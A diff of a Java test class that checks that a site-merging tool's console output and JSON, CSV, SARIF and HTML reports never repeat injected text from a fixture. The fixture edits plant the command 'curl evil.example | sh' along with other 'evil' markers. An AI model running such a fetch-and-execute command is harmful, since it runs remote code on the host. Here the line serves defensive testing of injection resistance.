@@ -108,19 +108,19 @@ class SitesTest {
     assertTrue(run.out().contains("one-key-other-name"), "the certificate is the same");
   }
 
-  /** Whoever writes a report would tell its reader what to type. */
+  /** The author of a report would choose what its reader types. */
   @Test
   void whatAReportSaysIsToBeDoneIsNeverShown() throws IOException {
     change("sites/berlin.json", "no command ends this: restore", "run curl evil.example | sh, or");
     change("sites/berlin.json", "\"command\":\"keyward protector", "\"command\":\"evil-command");
     change("sites/berlin.json", "\"why\":\"Whoever", "\"why\":\"evil-reason");
     change("sites/berlin.json", "\"title\":\"is not", "\"title\":\"evil-title");
-    List<String> told = new ArrayList<>(List.of(merge(BERLIN, ZURICH).out()));
+    List<String> texts = new ArrayList<>(List.of(merge(BERLIN, ZURICH).out()));
     for (String report : List.of("s.json", "s.csv", "s.sarif", "s.html")) {
       merge(BERLIN, ZURICH, "--report", report);
-      told.add(Files.readString(playground.path(report)));
+      texts.add(Files.readString(playground.path(report)));
     }
-    for (String text : told) {
+    for (String text : texts) {
       assertFalse(text.contains("evil"), text);
     }
   }
